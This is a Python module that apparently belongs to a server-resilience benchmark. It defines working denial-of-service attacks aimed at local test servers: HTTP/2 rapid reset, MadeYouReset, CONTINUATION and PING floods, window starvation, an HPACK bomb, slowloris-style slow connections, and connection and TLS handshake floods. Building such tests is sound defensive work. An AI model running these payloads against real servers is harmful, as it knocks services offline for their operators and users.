"""Every class of attack: what one unit of it is, how many, and how they are sent.

The plan of an attack is the same for every server. A server that ends a connection early is spared what was still to come
on it: those units count as sent, since ending it is the defence.
"""

import pathlib
import select
import socket
import ssl
import subprocess
import sys
import time

import wire
from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE,
                  frame, request, streams)

HERE = pathlib.Path(__file__).resolve().parent
CORPUS = HERE.parent.parent / "tests" / "fixtures" / "http"
SOURCES = ["127.0.0.%d" % n for n in range(2, 12)]
HELD = 5  # seconds that slow clients stay: less than any deadline of either server
FENCE = frame(PING, 0, 0, b"anyone??")
ANSWER = frame(PING, 1, 0, b"anyone??")


def pump(connection, data, fence):
    """Sends and reads at once, as long as the server goes along; with a fence, until all was looked at."""
    connection.setblocking(False)
    left, got = memoryview(data + (FENCE if fence else b"")), b""
    end = time.monotonic() + wire.PATIENCE
    quiet = None
    while time.monotonic() < end:
        readable, writable, _ = select.select([connection], [connection] if left else [], [], 0.1)
        try:
            if readable or connection.pending():
                more = connection.recv(1 << 16)
                if not more:
                    return
                got = (got + more)[-(1 << 17):]
                if fence and ANSWER in got:
                    return
                quiet = None
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            return
        try:
            if left and writable:
                left = left[connection.send(left[:1 << 14]):]
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            return
        if not left and not fence:  # nothing tells when it is done: a second of silence is
            quiet = quiet or time.monotonic()
            if time.monotonic() - quiet > 1:
                return


def http2(build, per_connection, fence=True, settings=b"", hold=0):
    """An attack of so many units on each of a few connections; `build` makes the bytes of one connection."""
    def run(server, count):
        for each in split(count, per_connection):
            with wire.tls(server.port, wire.H2) as connection:
                pump(connection, PREFACE + frame(SETTINGS, 0, 0, settings) + build(each), fence)
                time.sleep(hold)
    return run


def split(count, per_connection):
    whole, rest = divmod(count, per_connection)
    return [per_connection] * whole + ([rest] if rest else [])


def rapid_reset(count):
    return b"".join(request(s) + frame(RST_STREAM, 0, s, b"\0\0\0\x08") for s in streams(count))


def made_you_reset(count):
    return b"".join(request(s) + frame(WINDOW_UPDATE, 0, s, b"\x7f\xff\xff\xff") for s in streams(count))


def continuation(count):
    block = wire.field(b"x-flood", b"y" * 1000)
    return frame(HEADERS, END_STREAM, 1, wire.head(b"GET", b"/small")) + frame(CONTINUATION, 0, 1, block) * count


def empty_data(count):
    return request(1, b"/post", b"POST", 0) + frame(DATA, 0, 1) * count


def shut_windows(count):
    return b"".join(request(s, b"/megabyte.bin") for s in streams(count))


def tiny_windows(count):
    return request(1, b"/megabyte.bin") + frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01") * count


def hpack_bomb(count):
    """One entry of the dynamic table, then blocks of nothing but references to it: 16 KiB that unpack to 47 MB."""
    first = wire.head(b"GET", b"/small") + wire.field(b"x", b"y" * 3900, 0x40)
    blocks = [first + b"\xbe" * 12000] + [wire.head(b"GET", b"/small") + b"\xbe" * 16000] * (count - 1)
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) for s, block in zip(streams(count), blocks))


def corpus(name):
    return alone(wire.refused(CORPUS / name))


def alone(cases):
    """Each on a plain connection of its own."""
    def run(server, count):
        for n in range(count):
            with wire.plain(server.http) as connection:
                wire.send(connection, cases[n % len(cases)])
                try:
                    connection.shutdown(socket.SHUT_WR)
                except OSError:
                    pass
                wire.drain(connection, 2)
    return run


def slow(first, more, buffer=None):
    """Connections that stay for a while and send nearly nothing, or read nothing."""
    def run(server, count):
        held = []
        try:
            for n in range(count):
                connection = wire.tls(server.port, source=SOURCES[n % len(SOURCES)])
                if buffer:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
                held.append(connection)
                wire.send(connection, first)
            for _ in range(HELD):
                time.sleep(1)
                for connection in held:
                    if more:
                        wire.send(connection, more)
        finally:
            for connection in held:
                connection.close()
    return run


def connections(server, count):
    for n in range(count):
        wire.plain(server.port, SOURCES[n % len(SOURCES)]).close()


def handshakes(server, count):
    """Full TLS 1.3 handshakes, as the benchmark of the edge makes them."""
    client = HERE.parent / "edge" / "client.py"
    subprocess.run([sys.executable, str(client), "handshakes", str(server.port), str(count), "full"], check=True,
                   stdout=subprocess.DEVNULL, stdin=subprocess.DEVNULL, timeout=120)


HALF = b"GET / HTTP/1.1\r\nHost: localhost\r\n"
POST = b"POST /post HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n"
WHOLE = b"GET /megabyte.bin HTTP/1.1\r\nHost: localhost\r\n\r\n"
SHUT = b"\0\x04\0\0\0\0"  # SETTINGS_INITIAL_WINDOW_SIZE of 0

REFERENCE = "no attack"

# (name, what one unit is, units, how)
ATTACKS = [
    (REFERENCE, "redirected request", 1000, alone([b"GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"])),
    ("refused: framing", "connection", 1000, corpus("framing.txt")),
    ("refused: chunks", "connection", 1000, corpus("chunks.txt")),
    ("refused: lines", "connection", 1000, corpus("lines.txt")),
    ("refused: targets", "connection", 1000, corpus("targets.txt")),
    ("rapid reset", "request and reset", 10000, http2(rapid_reset, 1000)),
    ("MadeYouReset", "request and overflow", 10000, http2(made_you_reset, 1000)),
    ("CONTINUATION flood", "frame of 1 KB", 10000, http2(continuation, 2000, fence=False)),
    ("PING flood", "frame", 50000, http2(lambda count: frame(PING, 0, 0, b"ping!!!!") * count, 10000)),
    ("SETTINGS flood", "frame", 50000, http2(lambda count: frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * count, 10000)),
    ("empty DATA", "frame", 50000, http2(empty_data, 10000)),
    ("shut windows", "request of 1 MiB", 1000, http2(shut_windows, 100, settings=SHUT, hold=1)),
    ("tiny windows", "window of 1 byte", 10000, http2(tiny_windows, 2000, settings=SHUT)),
    ("HPACK bomb", "block of 16 KB", 200, http2(hpack_bomb, 20)),
    ("slow heads", "connection", 500, slow(HALF, b"X-a: b\r\n")),
    ("slow bodies", "connection", 500, slow(POST, b"x")),
    ("slow readers", "connection", 500, slow(WHOLE, b"", 4096)),
    ("connection flood", "connection", 5000, connections),
    ("TLS handshake flood", "handshake", 2000, handshakes),
]
